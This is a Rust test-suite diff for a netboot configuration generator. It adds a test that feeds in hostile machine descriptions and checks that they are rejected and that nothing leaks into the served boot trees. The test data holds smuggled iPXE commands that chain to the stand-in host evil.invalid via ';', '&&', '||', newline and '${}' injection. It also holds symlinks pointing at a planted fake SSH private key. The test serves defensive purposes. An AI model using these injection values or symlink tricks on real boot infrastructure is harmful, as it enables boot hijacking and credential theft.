@@ -28,6 +28,8 @@ struct Gen {
     squashfs: bool,
     kernel_params: Option<&'static str>,
     initrd: bool,
+    /// More files, or files instead of the ones above with the same name.
+    extra: Vec<(&'static str, Entry)>,
 }
 
 impl Gen {
@@ -40,6 +42,7 @@ impl Gen {
             squashfs: false,
             kernel_params: None,
             initrd: true,
+            extra: Vec::new(),
         }
     }
 }
@@ -72,6 +75,10 @@ fn add_generations(b: &mut Batch, gens: &[&Gen]) {
         }
         if let Some(p) = g.kernel_params {
             files.push(("kernel-params", Entry::text(p)));
+        }
+        for (name, entry) in &g.extra {
+            files.retain(|(n, _)| n != name);
+            files.push((name, entry.clone()));
         }
         b.add(&format!("dist-{}", g.id), &files);
     }
@@ -371,6 +378,164 @@ fn golden_faults_leave_only_the_faulty_machines_out() {
     assert!(msg("openvz").contains("unknown spin 'openvz'"), "{}", msg("openvz"));
     assert!(msg("no-profile").contains("does not exist"), "{}", msg("no-profile"));
     assert!(msg("elsewhere").contains("which is none of its generations (1)"), "{}", msg("elsewhere"));
+}
+
+/// What a hostile dist tries to get into the served trees.
+const INJECTED: &str = "evil.invalid";
+const SECRET: &str = "SECRET-KEY-MATERIAL-4f1c";
+
+/// Every file under `root` as a client reaches it (all symlinks followed) that contains
+/// `needle`.
+fn grep_served(root: &Path, needle: &str) -> Vec<PathBuf> {
+    fn walk(dir: &Path, needle: &[u8], seen: &mut std::collections::HashSet<PathBuf>, hits: &mut Vec<PathBuf>) {
+        let Ok(real) = std::fs::canonicalize(dir) else { return };
+        if !seen.insert(real) {
+            return;
+        }
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            match std::fs::metadata(&path) {
+                Ok(m) if m.is_dir() => walk(&path, needle, seen, hits),
+                Ok(m) if m.is_file() => {
+                    let bytes = std::fs::read(&path).unwrap();
+                    if bytes.windows(needle.len()).any(|w| w == needle) {
+                        hits.push(path);
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+    let mut hits = Vec::new();
+    walk(root, needle.as_bytes(), &mut std::collections::HashSet::new(), &mut hits);
+    hits
+}
+
+/// Dists written by someone hostile: commands in every rendered field, files that are
+/// symlinks to a secret of the carrier, a huge `machine.json`. Each such machine (or
+/// generation) is left out and named; the others are served; neither served tree holds
+/// the injected commands or the secret.
+#[test]
+fn hostile_dists_are_left_out_and_nothing_leaks() {
+    let c = Carrier::new();
+    let secret_dir = c.path().join("secret");
+    std::fs::create_dir(&secret_dir).unwrap();
+    let secret_key = secret_dir.join("id_ed25519");
+    std::fs::write(&secret_key, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")).unwrap();
+    let secret_json = secret_dir.join("machine.json");
+    std::fs::write(
+        &secret_json,
+        json!({"toplevel": "/nix/store/00000000000000000000000000000000-x", "label": SECRET}).to_string(),
+    )
+    .unwrap();
+    let key = secret_key.display().to_string();
+
+    let with = |id: &'static str, field: &str, value: Value| {
+        let mut j = nixos_json(&format!("{id}.example.org"), "1.0", &[]);
+        j[field] = value;
+        Gen::new(id, j)
+    };
+    let link = |name: &'static str, target: &str| vec![(name, Entry::link(target))];
+    let cmd = |n: &str| format!("chain http://{INJECTED}/{n}.ipxe");
+    // A valid machine.json padded beyond what is read.
+    let mut huge = nixos_json("huge-json.example.org", "1.0", &[]);
+    huge["toplevel"] = json!("{{nixos-system-huge-json}}");
+    huge["padding"] = json!(" ".repeat(1 << 20));
+    let gens = vec![
+        Gen::new("good", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:01"])),
+        with("label-semicolon", "label", json!(format!("Rescue ; {}", cmd("a")))),
+        with("label-and", "label", json!(format!("x && {}", cmd("b")))),
+        with("label-or", "label", json!(format!("x || {}", cmd("c")))),
+        with("label-hash", "label", json!(format!("{INJECTED} #comment"))),
+        with("label-expand", "label", json!(format!("${{{INJECTED}}}"))),
+        with("label-newline", "label", json!(format!("x\nLABEL evil\n  KERNEL http://{INJECTED}/k"))),
+        with("params-json", "kernelParams", json!(["console=ttyS0", format!("quiet ; {}", cmd("d"))])),
+        with("params-newline", "kernelParams", json!([format!("quiet\n  APPEND http://{INJECTED}/")])),
+        Gen { kernel_params: Some("quiet && chain http://evil.invalid/e"), ..with("params-file", "label", json!("p")) },
+        with("toplevel", "toplevel", json!(format!("{{{{nixos-system-toplevel}}}} || {}", cmd("f")))),
+        with("toplevel-newline", "toplevel", json!(format!("{{{{nixos-system-toplevel-newline}}}}\n{}", cmd("g")))),
+        with("version", "version", json!(format!("24.05 ; {}", cmd("h")))),
+        with("revision", "revision", json!(format!("abc${{{INJECTED}}}"))),
+        with("revision-newline", "revision", json!(format!("abc\n{}", cmd("i")))),
+        // The kernel version comes from the target of `<toplevel>/kernel`.
+        with("kernel-version", "toplevel", json!("{{nixos-system-evil-kernel}}")),
+        Gen { extra: link("kernel-params", &key), ..with("secret-params", "label", json!("sp")) },
+        Gen { extra: link("bzImage", &key), ..with("secret-bzimage", "label", json!("sb")) },
+        Gen {
+            machine_json: None,
+            extra: link("machine.json", &secret_json.display().to_string()),
+            ..Gen::new("secret-json", json!(null))
+        },
+        Gen {
+            machine_json: None,
+            extra: vec![("machine.json", Entry::text(huge.to_string()))],
+            ..Gen::new("huge-json", json!(null))
+        },
+        Gen {
+            extra: link("kernel-params", &key),
+            ..Gen::new("old-hostile-1", nixos_json("old-hostile.example.org", "1.0", &[]))
+        },
+        Gen::new("old-hostile-2", nixos_json("old-hostile.example.org", "2.0", &["52:54:00:00:00:02"])),
+    ];
+    let mut b = Batch::new();
+    add_generations(&mut b, &gens.iter().collect::<Vec<_>>());
+    let evil_kernel = format!("/nix/store/00000000000000000000000000000000-linux-6.1 ; chain {INJECTED}.ipxe /bzImage");
+    b.add("nixos-system-evil-kernel", &[("init", Entry::text("")), ("kernel", Entry::link(evil_kernel))]);
+    let p = b.build();
+    let d = |id: &str| p[&format!("dist-{id}")].clone();
+    let hostile: Vec<&str> = gens
+        .iter()
+        .map(|g| g.id)
+        .filter(|id| !["good", "old-hostile-1", "old-hostile-2"].contains(id))
+        .collect();
+    c.deploy("good", &[&d("good")], T0);
+    for (i, id) in hostile.iter().enumerate() {
+        c.deploy(id, &[&d(id)], T0 + 60 * (i as i64 + 1));
+    }
+    c.deploy("old-hostile", &[&d("old-hostile-1"), &d("old-hostile-2")], T0);
+
+    let report = netboot::build(&c.config()).unwrap();
+    let published: Vec<&str> = report.machines.iter().map(|m| m.name.as_str()).collect();
+    assert_eq!(published, ["good", "old-hostile"], "{}", report.summary());
+    for id in &hostile {
+        let fault = report.faults.iter().find(|f| f.profile == *id);
+        assert!(fault.is_some_and(|f| f.left_out), "profile '{id}' is not reported as left out: {fault:?}");
+    }
+    let old = report.machines.iter().find(|m| m.name == "old-hostile").unwrap();
+    assert_eq!(old.generations.iter().map(|g| g.number).collect::<Vec<_>>(), [2]);
+    let old_fault = report.faults.iter().find(|f| f.profile == "old-hostile").unwrap();
+    assert_eq!((old_fault.generation, old_fault.left_out), (Some(1), false), "{old_fault}");
+
+    for root in ["tftp", "http"] {
+        let root = c.netboot().join(root);
+        for needle in [INJECTED, SECRET] {
+            let hits = grep_served(&root, needle);
+            assert!(hits.is_empty(), "'{needle}' is served from {hits:?}");
+        }
+    }
+    // Faults name the file and never quote the secret.
+    for f in &report.faults {
+        assert!(!f.message.contains(SECRET), "{f}");
+    }
+    let kind = |p: &str| format!("{:?}", report.faults.iter().find(|f| f.profile == p).unwrap().kind);
+    let msg = |p: &str| report.faults.iter().find(|f| f.profile == p).unwrap().to_string();
+    for id in ["secret-params", "secret-bzimage", "secret-json"] {
+        assert_eq!(kind(id), "OutsideStore", "{}", msg(id));
+        assert!(msg(id).contains(&key) || msg(id).contains(&secret_json.display().to_string()), "{}", msg(id));
+    }
+    assert!(msg("secret-params").contains("confctl-secret-params-1-link/kernel-params"), "{}", msg("secret-params"));
+    assert_eq!(kind("huge-json"), "TooLarge", "{}", msg("huge-json"));
+    assert!(msg("huge-json").contains("confctl-huge-json-1-link/machine.json"), "{}", msg("huge-json"));
+    for id in hostile.iter().filter(|id| !id.starts_with("secret-") && **id != "huge-json") {
+        assert_eq!(kind(id), "InvalidValue", "{}", msg(id));
+    }
+    assert!(msg("label-semicolon").contains("field `label`"), "{}", msg("label-semicolon"));
+    assert!(msg("params-file").contains("confctl-params-file-1-link/kernel-params"), "{}", msg("params-file"));
+    assert!(msg("params-json").contains("field `kernelParams`"), "{}", msg("params-json"));
+    assert!(msg("toplevel").contains("field `toplevel`"), "{}", msg("toplevel"));
+    assert_golden("netboot/hostile/report.txt", &report_text(&c, &report));
+    assert_golden("netboot/hostile/tftp.txt", &c.dump("tftp", &report));
+    assert_golden("netboot/hostile/http.txt", &c.dump("http", &report));
 }
 
 #[test]
